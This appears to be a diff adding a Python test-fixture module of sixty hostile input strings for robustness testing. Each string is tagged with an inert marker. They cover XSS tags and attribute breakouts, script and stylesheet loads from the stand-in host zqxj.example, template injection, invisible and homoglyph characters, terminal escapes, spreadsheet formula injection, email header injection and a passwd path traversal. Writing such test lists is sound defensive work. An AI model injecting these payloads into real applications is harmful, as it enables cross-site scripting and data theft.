@@ -1,0 +1,81 @@
+"""Sixty texts that somebody would call a team by to see what breaks (S9). Each holds the word ``zqxj``."""
+
+from __future__ import annotations
+
+TAGS = (
+    "<script>zqxj()</script>",
+    "<ScRiPt>zqxj()</sCrIpT>",
+    "<script src=//zqxj.example></script>",
+    "</title><script>zqxj()</script>",
+    "</textarea><script>zqxj()</script>",
+    "</script><script>zqxj()</script>",
+    "<<script>zqxj()//<</script>",
+    "<scr<script>ipt>zqxj()</script>",
+    "<img src=x onerror=zqxj()>",
+    "<img/src=x/onerror=zqxj()>",
+    "<body onload=zqxj()>",
+    "<iframe srcdoc='<b>zqxj</b>'></iframe>",
+    "<object data=zqxj></object>",
+    "<base href=//zqxj.example/>",
+    "<form action=//zqxj.example><button>",
+    "<a href=javascript:zqxj()>x</a>",
+    "<a href='java\tscript:zqxj()'>x</a>",
+    "<details open ontoggle=zqxj()>",
+    "<meta http-equiv=refresh content=0;url=//zqxj.example>",
+    "<zqxj-element hx-get=/ hx-trigger=load>",
+)
+SVG_AND_STYLE = (
+    "<svg onload=zqxj()>",
+    "<svg><script>zqxj()</script></svg>",
+    "</svg><script>zqxj()</script>",
+    "<svg><a xlink:href=javascript:zqxj()><text>x</text></a></svg>",
+    "</text><image href=x onerror=zqxj()>",
+    "<math><mtext><style><img src=x onerror=zqxj()>",
+    "<style>*{background:url(//zqxj.example)}</style>",
+    "<link rel=stylesheet href=//zqxj.example>",
+    "</style><script>zqxj()</script>",
+    "]]><script>zqxj()</script>",
+    "<!--zqxj",
+    "--><script>zqxj()</script>",
+)
+ATTRIBUTES = (
+    '" onmouseover="zqxj()',
+    "' onfocus='zqxj()' autofocus='",
+    '"><script>zqxj()</script>',
+    "'><script>zqxj()</script>",
+    "` onclick=`zqxj()",
+    '" style="background:url(//zqxj.example)',
+    '" hx-get="//zqxj.example" hx-trigger="load',
+    "javascript:zqxj()",
+    "data:text/html,<script>zqxj()</script>",
+    "&lt;script&gt;zqxj()&lt;/script&gt;",
+    "&#60;script>zqxj()&#60;/script>",
+    "\\x3cscript\\x3ezqxj()\\x3c/script\\x3e",
+)
+TEMPLATES = (
+    "{{ 7777 * 7 }}zqxj",
+    "{% raw %}zqxj",
+    "${7777*7}zqxj",
+    "%(zqxj)s%n{0.__class__}",
+)
+INVISIBLE = (
+    "\u202ezqxj\u202c",
+    "\u2066zqxj\u2069",
+    "zq\u200bxj\u200bzqxj",
+    "zqхjzqxj",  # the third letter is Cyrillic
+    "\x1b[31mzqxj\x1b[0m",
+    "\x1b]0;zqxj\x07",
+    "\x9b31mzqxj",
+    "zqxj\\0\\x00%00",
+)
+LINES_AND_PATHS = (
+    "=HYPERLINK(zqxj)",
+    "@SUM(zqxj)|'+cmd'!A0",
+    "zqxj\r\nBcc: zqxj@example.org\r\n\r\nzqxj",
+    "../../../../zqxj/passwd",
+)
+HOSTILE = TAGS + SVG_AND_STYLE + ATTRIBUTES + TEMPLATES + INVISIBLE + LINES_AND_PATHS
+WORD = "zqxj"
+FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
+
+assert len(set(HOSTILE)) == 60
